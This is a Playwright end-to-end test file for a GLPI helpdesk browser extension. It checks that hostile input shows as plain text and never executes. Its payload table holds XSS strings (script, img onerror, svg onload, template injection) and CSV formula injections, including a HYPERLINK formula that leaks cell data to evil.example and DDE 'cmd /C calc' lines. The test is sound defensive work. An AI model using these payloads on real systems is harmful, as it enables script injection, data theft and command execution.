import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseTags } from '../../extension/components/capture-panel';
import { parseCsv } from '../support/rfc4180';
import { type ExtensionBrowser, configureExtension, launchWithExtension, removeProfile } from './support/browser';
import { type GlpiSite, openSite } from './support/site';
import { type LocalWorker, createWorkspace, startLocalWorker } from './support/worker';

/**
 * Hostile content (issue 7): payloads written as idea texts (through the capture panel and the API), tags, hint texts
 * and links, item titles, owners and notes, and a GLPI category name, then shown everywhere they can be shown: the
 * capture panel's preview and its toasts, the reporter's and the manager's popup (backlog, item, evidence, history,
 * hints), the hints and "me too" markers on a GLPI page, and the CSV export. In real Chromium:
 * - no payload ever runs: each one, if it ran, would set window.__gx_pwned, open a dialog, or load a canary URL;
 *   none does, on any page (GLPI's and the extension's), and no element in our UI carries an event handler attribute,
 *   a script, a frame or a javascript: URL; the extension pages report no CSP violation either (a blocked injection
 *   would show there);
 * - the text shows literally (textContent and title attributes hold the payload as written);
 * - every CSV cell that a spreadsheet would read as a formula starts with a quote.
 */
const CANARY = 'gx-canary';
const canary = (name: string) => `/${CANARY}-${name}`;
const PAYLOADS: Record<string, string> = {
	script: '<script>window.__gx_pwned="script";alert("script")</script>',
	img: `<img src="${canary('img')}" onerror="window.__gx_pwned='img';alert('img')">`,
	svg: `"><svg onload="window.__gx_pwned='svg';alert('svg')">`,
	iframe: `'><iframe src="javascript:parent.__gx_pwned='iframe';alert('iframe')"></iframe>`,
	javascriptUrl: `javascript:window.__gx_pwned='url';alert('url')`,
	template: `{{constructor.constructor('window.__gx_pwned="template";alert("template")')()}}`,
	textarea: `</textarea><script>window.__gx_pwned='textarea';alert('textarea')</script>`,
	rtl: `\u202Etxt.exe\u202C <b onmouseover="alert('rtl')">right-to-left override</b>`,
	style: `<style>@import "${canary('style')}";*{display:none!important}</style>`,
	placeholders: `$& $' $\` {message} {when} %s %n \${alert('dollar')}`,
	hyperlink: `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
	at: `@SUM(1+1)*cmd|' /C calc'!A0`,
	plus: `+cmd|' /C calc'!A0`,
	minus: '-2+3',
	long: `<img src="${canary('long')}" onerror="window.__gx_pwned='long';alert('long')">`.repeat(40).slice(0, 2000),
};
const NAMES = Object.keys(PAYLOADS);
const payload = (name: string) => PAYLOADS[name] ?? '';
const HOSTILE_TAGS = `<script>alert(1)</script>, "><svg onload=alert(2)>, javascript:alert(3), =cmd|calc, @SUM(1), ../../etc`;
const FILLERS = [
	'The printer queue page loads quickly now',
	'Dark mode for the self-service portal looks great',
	'Password reset by e-mail saved us many calls',
	'The new laptop request form is short and clear',
	'Thanks for the SLA colours in the ticket list',
	'Wi-Fi guest access instructions are easy to follow',
	'Knowledge base search finds the right article',
	'Mobile layout of the ticket form works on phones',
];
const TICKET_FORM = '/front/ticket.form.php';
const CATEGORY = '#itil-form select[name="itilcategories_id"]';
/** What a spreadsheet reads as a formula (OWASP's list). */
const FORMULA_START = /^[=+\-@\t\r]/;

interface Item {
	id: string;
	title: string;
	status: string;
	route?: string;
	owner?: string;
	note?: string;
}
interface Detail {
	item: Item;
	evidence: { id: string; text?: string; tags?: string[]; page: { category?: string }; target?: { label?: string; selector: string } }[];
	audit: { field: string; from: string | null; to: string | null }[];
}
interface HintOut {
	kind: 'manager' | 'known-issue';
	id?: string;
	selector?: string;
	text: { en?: string; fr?: string };
	link?: string;
}

describe('hostile content shows as text, never runs', () => {
	let worker: LocalWorker;
	let site: GlpiSite;
	let browser: ExtensionBrowser;
	let tokens: Awaited<ReturnType<typeof createWorkspace>>;
	const dialogs: string[] = [];
	const canaryRequests: string[] = [];
	const consoleLines: string[] = [];
	const run = Math.random().toString(36).slice(2, 8);

	async function api<T>(token: string, path: string, init: { method?: string; body?: unknown } = {}): Promise<{ status: number; body: T }> {
		const response = await fetch(`${worker.url}${path}`, {
			method: init.method ?? (init.body === undefined ? 'GET' : 'POST'),
			headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
			...(init.body === undefined ? {} : { body: JSON.stringify(init.body) }),
		});
		const text = await response.text();
		return { status: response.status, body: (text ? JSON.parse(text) : null) as T };
	}
	const ok = async <T>(token: string, path: string, init: { method?: string; body?: unknown } = {}) => {
		const { status, body } = await api<T>(token, path, init);
		if (status >= 300) throw new Error(`${init.method ?? 'GET'} ${path}: ${status} ${JSON.stringify(body)}`);
		return body;
	};
	const items = async () => (await ok<{ items: Item[] }>(tokens.manager, '/v1/backlog?limit=100')).items;
	const detail = (id: string) => ok<Detail>(tokens.manager, `/v1/backlog/${id}`);
	const rowCounts = async () => (await worker.query<{ signals: number; hints: number }>(`SELECT (SELECT COUNT(*) FROM signals WHERE workspace_id = '${tokens.id}') AS signals, (SELECT COUNT(*) FROM hints WHERE workspace_id = '${tokens.id}') AS hints`))[0];

	/**
	 * No payload ran on this page, and none left markup behind in our UI: the whole document of an extension page, the
	 * shadow roots of our gx-* hosts on a GLPI page.
	 */
	async function expectClean(page: Page, where: string) {
		const found = await page.evaluate((canaryName) => {
			const scope = window as unknown as { __gx_pwned?: unknown; __gx_csp?: string[] };
			const extensionPage = location.protocol === 'chrome-extension:';
			const roots: ParentNode[] = extensionPage
				? [document]
				: [...document.querySelectorAll('*')].filter((element) => element.tagName.startsWith('GX-')).flatMap((element) => (element.shadowRoot ? [element.shadowRoot] : []));
			const injected: string[] = [];
			for (const root of roots) {
				for (const element of root.querySelectorAll('*')) {
					// An extension page loads its own module script from its own origin; any other script is injected.
					const ownScript = element.tagName === 'SCRIPT' && extensionPage && new URL(element.getAttribute('src') ?? 'data:,', location.href).origin === location.origin;
					if (['SCRIPT', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED'].includes(element.tagName) && !ownScript) injected.push(element.tagName);
					if (element.tagName === 'STYLE' && element.textContent?.includes(canaryName)) injected.push('STYLE with a canary');
					for (const attribute of element.attributes) {
						const name = attribute.name.toLowerCase();
						// Text-only attributes may hold a payload's words: that is showing it literally.
						if (name === 'title' || name === 'value' || name === 'placeholder' || name.startsWith('aria-') || name.startsWith('data-')) continue;
						if (name.startsWith('on') || /^\s*javascript:/i.test(attribute.value) || attribute.value.includes(canaryName)) injected.push(`${element.tagName} ${name}=${attribute.value.slice(0, 60)}`);
					}
				}
			}
			return { pwned: scope.__gx_pwned ?? null, csp: scope.__gx_csp ?? null, injected, roots: roots.length };
		}, CANARY);
		expect(found.pwned, `${where}: a payload ran`).toBeNull();
		expect(found.injected, `${where}: markup from a payload`).toEqual([]);
		// The init script ran here (so the CSP listener was there), and nothing was blocked.
		expect(found.csp, `${where}: CSP violations`).toEqual([]);
		expect(found.roots, `${where}: nothing of ours to check`).toBeGreaterThan(0);
		expect(dialogs, `${where}: dialogs`).toEqual([]);
		expect(canaryRequests, `${where}: canary requests`).toEqual([]);
	}

	beforeAll(async () => {
		[worker, site] = await Promise.all([startLocalWorker('hostile'), openSite()]);
		tokens = await createWorkspace(worker, `Hostile desk ${run}`);
		browser = await launchWithExtension();
		const { context } = browser;
		// Every page, the extension's included: a dialog is recorded and dismissed, a CSP violation is recorded.
		await context.addInitScript(() => {
			const scope = window as unknown as { __gx_csp: string[] };
			scope.__gx_csp = [];
			document.addEventListener('securitypolicyviolation', (event) => scope.__gx_csp.push(`${event.violatedDirective} ${event.blockedURI}`));
		});
		const watch = (page: Page) =>
			page.on('dialog', (dialog) => {
				dialogs.push(`${page.url()}: ${dialog.type()} ${dialog.message()}`);
				void dialog.dismiss();
			});
		for (const page of context.pages()) watch(page);
		context.on('page', watch);
		context.on('console', (message) => void consoleLines.push(message.text()));
		context.on('request', (request) => {
			if (request.url().includes(CANARY)) canaryRequests.push(request.url());
		});
		await configureExtension(browser, { backendUrl: worker.url, token: tokens.reporter, glpiUrl: `${site.central}/` });
	});

	afterAll(async () => {
		await browser?.close();
		removeProfile(browser?.profileDir ?? '');
		await Promise.all([worker?.dispose(), site?.close()]);
	});

	it('the API refuses hostile tags and non-http links, and writes nothing', async () => {
		const before = await rowCounts();
		const now = new Date().toISOString();
		for (const tag of [payload('script'), payload('svg'), payload('javascriptUrl'), '=cmd|calc', '@SUM(1)', '+1', 'Confusing', 'a b', '../x', '']) {
			const signal = { id: crypto.randomUUID(), kind: 'friction', createdAt: now, page: { route: TICKET_FORM, kind: 'ticket-form' }, tags: ['confusing', tag] };
			const { status, body } = await api<{ error: { code: string; issues?: { path: string }[] } }>(tokens.reporter, '/v1/signals', { body: { signals: [signal] } });
			expect(status, tag).toBe(400);
			expect(body.error.code).toBe('invalid_request');
			expect(body.error.issues?.[0]?.path).toBe('signals.0.tags.1');
		}
		const links = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'javascript://example.org/%0Aalert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', '//evil.example/x'];
		for (const link of links) {
			const { status } = await api(tokens.manager, '/v1/hints', { body: { route: TICKET_FORM, text: { en: 'Read this' }, link } });
			expect(status, link).toBe(400);
		}
		expect(await rowCounts()).toEqual(before);
		// Nor can a link be changed into one.
		const { hint } = await ok<{ hint: { id: string } }>(tokens.manager, '/v1/hints', { body: { route: '/front/other.php', text: { en: 'A safe hint' }, link: 'https://kb.example.org/safe' } });
		for (const link of links) expect((await api(tokens.manager, `/v1/hints/${hint.id}`, { method: 'PATCH', body: { link } })).status, link).toBe(400);
		const all = await ok<{ hints: HintOut[] }>(tokens.manager, '/v1/hints');
		expect(all.hints.find((entry) => entry.id === hint.id)?.link).toBe('https://kb.example.org/safe');
		await ok(tokens.manager, `/v1/hints/${hint.id}`, { method: 'DELETE' });
	});

	it("the capture panel previews hostile words and a hostile GLPI category literally, and makes hostile tags safe", async () => {
		const page = await browser.context.newPage();
		await site.ensureLoggedIn(page);
		// The category is in GLPI's main tab, which a live GLPI loads by AJAX after the page (and after our button).
		await site.openTicketForm(page);
		await page.locator('[data-gx="capture-button"]').waitFor({ timeout: 15_000 });
		// GLPI's own content can be hostile too: a category named like a payload (any GLPI admin can name one).
		await page.evaluate(
			({ selector, name }) => {
				const option = document.querySelector(`${selector} option:checked`) ?? document.querySelector(`${selector} option[selected]`);
				if (!option) throw new Error('no selected category on the ticket page');
				option.textContent = name;
			},
			{ selector: CATEGORY, name: payload('svg') },
		);
		for (const [index, name] of NAMES.entries()) {
			const text = payload(name);
			await page.locator('[data-gx="capture-button"]').click();
			const panel = page.locator('[data-gx="capture-panel"]');
			await panel.locator('textarea[name="gx-text"]').fill(text);
			if (index === 0) await panel.locator('input[name="gx-tags"]').fill(HOSTILE_TAGS);
			expect(await panel.locator('[data-gx="preview"]').textContent(), name).toBe(text.trim());
			if (index === 0) {
				const fields = (await panel.locator('[data-gx="preview-fields"]').textContent()) ?? '';
				expect(fields).toContain(payload('svg'));
				const shownTags = ((await panel.locator('[data-gx="preview-fields"] dd', { hasText: /^#/ }).textContent()) ?? '').split(' ');
				expect(shownTags).toEqual(parseTags(HOSTILE_TAGS).map((tag) => `#${tag}`));
				for (const tag of shownTags) expect(tag).toMatch(/^#[a-z0-9][a-z0-9-]*$/);
				await expectClean(page, `capture panel, ${name}`);
			}
			await panel.locator('[data-gx="send"]').click();
			await panel.waitFor({ state: 'detached', timeout: 5_000 });
		}
		await expect.poll(() => page.locator('[data-gx="toast"]').count()).toBe(1);
		await expectClean(page, 'GLPI page after the captures');

		// The reporter's popup lists the captures (first 200 characters each) once they are sent.
		const popup = await browser.openExtensionPage('popup.html');
		await popup.locator('[data-gx="sync-now"]').click();
		await expect.poll(async () => popup.locator('[data-gx="history"] li').count(), { timeout: 30_000 }).toBe(NAMES.length);
		const history = (await popup.locator('[data-gx="history"]').textContent()) ?? '';
		for (const name of NAMES) expect(history, name).toContain(payload(name).trim().slice(0, 200));
		await expectClean(popup, "reporter's popup");
		await popup.close();

		// What arrived is what was typed, and the tags are the safe ones the preview showed.
		const arrived = (await Promise.all((await items()).map((item) => detail(item.id)))).flatMap((entry) => entry.evidence);
		for (const name of NAMES) expect(arrived.map((signal) => signal.text), name).toContain(payload(name).trim());
		const tagged = arrived.find((signal) => signal.tags?.length);
		expect(tagged?.tags).toEqual(parseTags(HOSTILE_TAGS));
		expect(tagged?.page.category).toBe(payload('svg'));
		await page.close();
	});

	it("the manager's popup shows every title, text, history entry and hint as text; its hint form refuses javascript: links", async () => {
		// Through the API: the same words as ideas on another page, a friction with a hostile element label, titles
		// rotated so each item's title is another payload, hostile owner and note, and manager hints.
		const now = new Date().toISOString();
		const listPage = { route: '/front/ticket.php', kind: 'ticket-list', interface: 'central' };
		await ok(tokens.technician, '/v1/signals', {
			body: {
				signals: [
					...NAMES.map((name) => ({ id: crypto.randomUUID(), kind: 'idea', createdAt: now, page: listPage, text: `${payload(name)}` })),
					{ id: crypto.randomUUID(), kind: 'bug', createdAt: now, page: listPage, text: '\t=1+1 starts with a tab' },
					// Unrelated subjects, so there are more items than payloads to give titles to.
					...FILLERS.map((text) => ({ id: crypto.randomUUID(), kind: 'praise', createdAt: now, page: listPage, text })),
					{ id: crypto.randomUUID(), kind: 'friction', createdAt: now, page: { route: TICKET_FORM, kind: 'ticket-form' }, target: { selector: CATEGORY, label: payload('img') }, tags: ['confusing'] },
				],
			},
		});
		const listed = await items();
		const friction = listed.find((item) => item.title.includes('confusing'));
		// Near-identical payloads may share an item, so titles are given out in turn over every item but the friction.
		const ideas = listed.filter((item) => item !== friction);
		expect(ideas.length).toBeGreaterThanOrEqual(NAMES.length);
		for (const [index, item] of ideas.entries()) {
			const title = payload(NAMES[index % NAMES.length] ?? 'script').slice(0, 200).trim();
			const note = index === 0 ? '\t=1+1 in a note' : index % 2 ? payload('hyperlink') : payload('minus');
			await ok(tokens.manager, `/v1/backlog/${item.id}`, { method: 'PATCH', body: { title, owner: payload(index % 2 ? 'at' : 'plus').slice(0, 100), note } });
		}
		await ok(tokens.manager, `/v1/backlog/${friction?.id}`, { method: 'PATCH', body: { title: payload('svg') } });
		await ok(tokens.manager, '/v1/hints', { body: { route: TICKET_FORM, selector: CATEGORY, text: { en: payload('script'), fr: payload('img') }, link: 'https://kb.example.org/search?q="><script>alert(1)</script>' } });
		await ok(tokens.manager, '/v1/hints', { body: { route: TICKET_FORM, text: { en: payload('textarea') } } });
		await ok(tokens.manager, '/v1/hints', { body: { route: TICKET_FORM, text: { en: payload('template') } } });
		await ok(tokens.manager, '/v1/hints', { body: { route: TICKET_FORM, selector: `"><img src="${canary('selector')}" onerror="alert('selector')">`, text: { en: payload('placeholders') } } });

		await configureExtension(browser, { backendUrl: worker.url, token: tokens.manager, glpiUrl: [] });
		const popup = await browser.openExtensionPage('popup.html');
		await popup.setViewportSize({ width: 560, height: 700 });
		await popup.locator('[data-gx="backlog"]').waitFor({ timeout: 15_000 });
		const all = await items();
		await expect.poll(() => popup.locator('[data-gx-item]').count()).toBe(all.length);
		const list = (await popup.locator('[data-gx="backlog"]').textContent()) ?? '';
		for (const item of all) expect(list, item.title).toContain(item.title);
		// The reference is not empty of payloads: every payload is some item's title, as written.
		for (const name of NAMES) expect(all.map((item) => item.title), name).toContain(payload(name).slice(0, 200).trim());
		await expectClean(popup, 'backlog');

		// A title changed in the popup: the history shows both words as text.
		const renamed = ideas[1];
		await popup.locator(`[data-gx-item="${renamed?.id}"] .gx-row`).click();
		await popup.locator('[data-gx="item-detail"]').waitFor();
		await popup.locator('.gx-triage input[name="title"]').fill(payload('iframe'));
		await popup.locator('.gx-triage button[type="submit"]').click();
		await expect.poll(() => popup.locator('[data-gx="audit"]').textContent(), { timeout: 10_000 }).toContain(`→ ${payload('iframe')}`);
		await popup.locator('.gx-back').click();

		for (const item of await items()) {
			const expected = await detail(item.id);
			await popup.locator(`[data-gx-item="${item.id}"] .gx-row`).click();
			const view = popup.locator(`[data-gx="item-detail"][data-gx-item="${item.id}"]`);
			await view.waitFor();
			await view.locator('[data-gx="evidence"] li').first().waitFor();
			expect(await view.locator('h2').textContent()).toBe(expected.item.title);
			const evidence = (await view.locator('[data-gx="evidence"]').textContent()) ?? '';
			for (const signal of expected.evidence) {
				if (signal.text) expect(evidence).toContain(signal.text);
				if (signal.target?.label) expect(evidence).toContain(signal.target.label);
			}
			if (expected.audit.length > 0) {
				const audit = (await view.locator('[data-gx="audit"]').textContent()) ?? '';
				for (const entry of expected.audit) if (entry.to) expect(audit).toContain(entry.to);
			}
			expect(await view.locator('input[name="owner"]').inputValue()).toBe(expected.item.owner ?? '');
			await expectClean(popup, `item ${item.title.slice(0, 40)}`);
			await popup.locator('.gx-back').click();
		}

		await popup.locator('[data-gx-tab="hints"]').click();
		const hintsView = popup.locator('[data-gx="hints"]');
		await hintsView.locator('li').first().waitFor();
		const written = (await ok<{ hints: HintOut[] }>(tokens.manager, '/v1/hints')).hints;
		const shown = (await hintsView.textContent()) ?? '';
		for (const hint of written) {
			expect(shown).toContain(hint.text.en ?? hint.text.fr);
			if (hint.selector) expect(shown).toContain(hint.selector);
		}
		// The popup's form: a javascript: link comes back refused, and nothing is stored.
		const form = popup.locator('[data-gx="hint-form"]').last();
		await form.locator('input[name="hint-route"]').fill(TICKET_FORM);
		await form.locator('textarea[name="hint-en"]').fill(payload('rtl'));
		await form.locator('textarea[name="hint-fr"]').fill(payload('hyperlink'));
		await form.locator('input[name="hint-link"]').fill("javascript:alert('link')");
		await form.locator('button[type="submit"]').click();
		await expect.poll(() => form.locator('[data-gx="notice"]').textContent()).toContain('not valid');
		expect(await form.locator('[data-gx="notice"]').getAttribute('role')).toBe('alert');
		expect((await ok<{ hints: HintOut[] }>(tokens.manager, '/v1/hints')).hints).toHaveLength(written.length);
		await form.locator('input[name="hint-link"]').fill('');
		await form.locator('button[type="submit"]').click();
		await expect.poll(() => form.locator('[data-gx="notice"]').textContent()).toContain('Hint saved');
		await expect.poll(() => hintsView.textContent()).toContain(payload('rtl'));
		await expectClean(popup, 'hints tab');
		await popup.close();
	});

	it('the CSV export quotes every cell and starts none with a formula', async () => {
		const popup = await browser.openExtensionPage('popup.html');
		await popup.locator('[data-gx="backlog"]').waitFor({ timeout: 15_000 });
		const downloading = popup.waitForEvent('download');
		await popup.locator('[data-gx="export-csv"]').click();
		const file = await (await downloading).path();
		const bytes = readFileSync(file);
		expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const rows = parseCsv(bytes.subarray(3).toString('utf8'));
		const [header, ...records] = rows;
		expect(header?.slice(0, 2)).toEqual(['id', 'title']);
		const all = await items();
		expect(records).toHaveLength(all.length);
		for (const record of rows) {
			expect(record).toHaveLength(header?.length ?? 0);
			for (const cell of record) expect(cell, `a cell a spreadsheet would run: ${JSON.stringify(cell.slice(0, 60))}`).not.toMatch(FORMULA_START);
		}
		const column = (name: string) => header?.indexOf(name) ?? -1;
		const neutral = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
		let formulas = 0;
		for (const item of all) {
			const record = records.find((candidate) => candidate[0] === item.id);
			expect(record?.[column('title')]).toBe(neutral(item.title));
			expect(record?.[column('owner')]).toBe(neutral(item.owner ?? ''));
			expect(record?.[column('note')]).toBe(neutral(item.note ?? ''));
			for (const value of [item.title, item.owner ?? '', item.note ?? '']) if (FORMULA_START.test(value)) formulas++;
		}
		// The export held cells that would have been formulas: = + - @ and a tab among them.
		expect(formulas).toBeGreaterThan(10);
		expect(all.some((item) => item.note?.startsWith('\t'))).toBe(true);
		console.log(`[e2e] CSV: ${records.length} rows, ${formulas} cells neutralised`);
		await expectClean(popup, 'popup after the export');
		await popup.close();
	});

	it('the hints and "me too" markers on a GLPI page show every hint and known issue as text', async () => {
		// Only triaged items show to users, with a title a manager set (issue 15): the manager accepts every title.
		for (const item of await items()) {
			if (item.status === 'new') await ok(tokens.manager, `/v1/backlog/${item.id}`, { method: 'PATCH', body: { status: 'plan', title: item.title } });
		}
		const page = await browser.context.newPage();
		await site.openTicketForm(page);
		// One "i" for the category's hints (issue 14, item 9), shown while the field shows (issue 14, item 6): the field
		// is brought into view, as a user scrolling to it would.
		const marker = page.locator(`[data-gx="hint-marker"][data-gx-selector='${CATEGORY}']`);
		await page.locator(CATEGORY).first().waitFor({ state: 'attached', timeout: 15_000 });
		await page.locator(CATEGORY).first().scrollIntoViewIfNeeded();
		await marker.waitFor({ timeout: 15_000 });
		const served = (await ok<{ hints: HintOut[] }>(tokens.manager, `/v1/hints?route=${encodeURIComponent(TICKET_FORM)}&interface=central`)).hints;
		const words = (hint: HintOut) => hint.text.en ?? hint.text.fr ?? '';

		// The manager's hint on the category: its words in the marker's title and in its card, its link as written.
		const onCategory = served.find((hint) => hint.kind === 'manager' && hint.selector === CATEGORY);
		expect(words(onCategory ?? { kind: 'manager', text: {} })).toBe(payload('script'));
		expect((await marker.getAttribute('title'))?.split('\n')).toContain(payload('script'));
		await marker.click();
		const card = page.locator(`[data-gx="hint-card"][data-gx-hint^="${onCategory?.id}:"]`);
		expect(await card.locator('.gx-hint-text').textContent()).toBe(payload('script'));
		expect(await card.locator('a').getAttribute('href')).toBe(onCategory?.link);

		// The known issue of the friction on the category: "me too", its title in the tooltip.
		const knownOnCategory = served.find((hint) => hint.kind === 'known-issue' && hint.selector === CATEGORY);
		expect(words(knownOnCategory ?? { kind: 'known-issue', text: {} })).toContain(payload('svg'));
		const meToo = page.locator(`[data-gx="me-too"][data-gx-selector='${CATEGORY}']`);
		await meToo.waitFor({ state: 'attached', timeout: 15_000 });
		expect(await meToo.getAttribute('title')).toContain(words(knownOnCategory ?? { kind: 'known-issue', text: {} }));

		// Everything else is in the page notes: manager hints without an element (or with a selector that finds none),
		// and the known issues of the ideas captured on this page, whose titles are the payloads.
		const notes = page.locator('[data-gx="page-notes"]');
		await notes.locator('button').first().click();
		const noted = served.filter((hint) => !hint.selector || (hint.kind === 'manager' && hint.selector !== CATEGORY));
		expect(noted.length).toBeGreaterThan(4);
		await expect.poll(() => notes.locator('[data-gx="hint-card"]').count()).toBe(noted.length);
		const texts = await notes.locator('.gx-hint-text').allTextContents();
		for (const hint of noted) expect(texts).toContain(words(hint));
		for (const name of ['textarea', 'template', 'placeholders', 'rtl']) expect(texts, name).toContain(payload(name));
		await expectClean(page, 'hints on the GLPI page');
		await page.close();
	});

	it("a script of the GLPI page cannot send through our open shadow roots: its Send clicks, keys and submits do nothing", async () => {
		const page = await browser.context.newPage();
		await page.goto(site.ticketForm);
		await page.locator('[data-gx="capture-button"]').click();
		const panel = page.locator('[data-gx="capture-panel"]');
		await panel.locator('textarea[name="gx-text"]').fill(`Typed by the user ${run}`);
		// What a hostile script in GLPI's page could do: reach the panel through the open shadow root and send.
		const tried = await page.evaluate(() => {
			const hosts = [...document.querySelectorAll('*')].filter((element) => element.shadowRoot?.querySelector('[data-gx="capture-panel"]'));
			const form = hosts[0]?.shadowRoot?.querySelector<HTMLFormElement>('[data-gx="capture-panel"]');
			if (!form) return 'no panel';
			form.querySelector<HTMLButtonElement>('[data-gx="send"]')?.click();
			form.querySelector('textarea')?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', ctrlKey: true, bubbles: true, cancelable: true }));
			form.requestSubmit();
			return 'tried';
		});
		expect(tried).toBe('tried');
		// Sent, the panel would have closed with a toast: it stays, and the user's own click still sends.
		await page.waitForTimeout(300);
		expect(await panel.count()).toBe(1);
		expect(await page.locator('[data-gx="toast"]').count()).toBe(0);
		await panel.locator('[data-gx="send"]').click();
		await panel.waitFor({ state: 'detached', timeout: 5_000 });
		await page.close();
	});

	it('a script of the GLPI page hears no message of ours, which would tell it the extension runs and its id', async () => {
		const page = await browser.context.newPage();
		await page.addInitScript(() => {
			const scope = window as unknown as { __gx_heard: string[] };
			scope.__gx_heard = [];
			window.addEventListener('message', (event) => scope.__gx_heard.push(JSON.stringify(event.data)));
		});
		await page.goto(site.ticketForm);
		await page.locator('[data-gx="capture-button"]').click();
		await page.locator('[data-gx="capture-panel"]').waitFor();
		await page.waitForTimeout(300);
		const heard = await page.evaluate(() => (window as unknown as { __gx_heard: string[] }).__gx_heard);
		// WXT's content script announced itself to the page ("<extension id>:glpi:wxt:content-script-started").
		expect(heard.filter((data) => /wxt|content-script|chrome-extension|gx/i.test(data))).toEqual([]);
		await page.close();
	});

	it("a script of the GLPI page cannot change what the user's own Send click sends", async () => {
		const page = await browser.context.newPage();
		await page.goto(site.ticketForm);
		await page.locator('[data-gx="capture-button"]').click();
		const panel = page.locator('[data-gx="capture-panel"]');
		const box = panel.locator('textarea[name="gx-text"]');
		await box.fill(`Typed by the user ${run}`);
		// What a hostile script could do between the user's typing and their click: rewrite the text, with an input
		// event of its own so that the preview follows.
		const rewritten = await page.evaluate(() => {
			const hosts = [...document.querySelectorAll('*')].filter((element) => element.shadowRoot?.querySelector('[data-gx="capture-panel"]'));
			const text = hosts[0]?.shadowRoot?.querySelector<HTMLTextAreaElement>('textarea[name="gx-text"]');
			if (!text) return 'no panel';
			text.value = 'Written by the page: call 06 12 34 56 78';
			text.dispatchEvent(new Event('input', { bubbles: true }));
			return 'rewritten';
		});
		expect(rewritten).toBe('rewritten');
		await panel.locator('[data-gx="send"]').click();
		// Nothing sent: the panel stays with the text and says why; no "saved" toast.
		await expect.poll(() => panel.locator('[role="alert"]').textContent()).toContain('not by your typing');
		expect(await box.inputValue()).toBe('Written by the page: call 06 12 34 56 78');
		expect(await page.locator('[data-gx="toast"]').count()).toBe(0);
		// The user's own edit makes the text theirs; their next click sends it.
		await box.fill(`Checked by the user ${run}`);
		await panel.locator('[data-gx="send"]').click();
		await panel.waitFor({ state: 'detached', timeout: 5_000 });
		await page.close();
	});

	it('an error toast gives the words back as text', async () => {
		const page = await browser.context.newPage();
		await page.goto(site.ticketForm);
		await page.locator('[data-gx="capture-button"]').click();
		await page.locator('textarea[name="gx-text"]').fill(payload('img'));
		// The extension is updated while the page is open: the page's script can no longer reach it, and says so,
		// with the words the user would otherwise lose.
		const serviceWorker = browser.context.serviceWorkers()[0];
		await serviceWorker?.evaluate(() => (globalThis as unknown as { chrome: { runtime: { reload(): void } } }).chrome.runtime.reload()).catch(() => undefined);
		await page.waitForTimeout(500);
		await page.locator('[data-gx="send"]').click();
		const toast = page.locator('[data-gx="toast"]');
		await expect.poll(() => toast.textContent(), { timeout: 5_000 }).toContain(payload('img'));
		await expectClean(page, 'error toast');
		await page.close();
	});

	it("left no token and no user's words in any page's console", () => {
		expect(consoleLines.length).toBeGreaterThan(0);
		for (const line of consoleLines) {
			for (const token of [tokens.reporter, tokens.technician, tokens.manager]) expect(line).not.toContain(token);
			for (const name of NAMES) expect(line).not.toContain(payload(name).slice(0, 40));
		}
	});
});
